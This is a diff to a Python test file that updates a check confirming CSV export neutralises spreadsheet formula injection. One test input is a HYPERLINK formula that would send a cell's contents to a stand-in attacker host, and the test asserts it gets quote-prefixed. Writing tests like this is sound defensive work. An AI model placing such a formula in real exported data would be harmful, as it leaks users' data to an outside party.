@@ -101,7 +101,7 @@ def test_every_answer_has_security_headers_and_head_is_get_without_a_body(client
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
-    from storyline.interfaces.export import export_store
+    from storyline.interfaces.export import Bundle, csv_tables
     from storyline.pipeline import Ingestor, IngestSettings
     from storyline.records import GivenMetadata
     from storyline.store import Store
@@ -109,7 +109,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
     with Store(tmp_path / "csv.db") as store:
         title = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
         Ingestor(store, IngestSettings(given=GivenMetadata(title=title, outlet="@evil"))).run([str(SEEDS / "002_49451109cdc68bcb.txt")])
-        rows = list(csv.DictReader(io.StringIO(export_store(store, "csv").split("\n\n")[0])))
+        rows = list(csv.DictReader(io.StringIO(csv_tables(Bundle(store.articles(with_text=True)))["articles.csv"])))
     assert rows[0]["title"] == "'" + title and rows[0]["outlet"] == "'@evil"
 
 
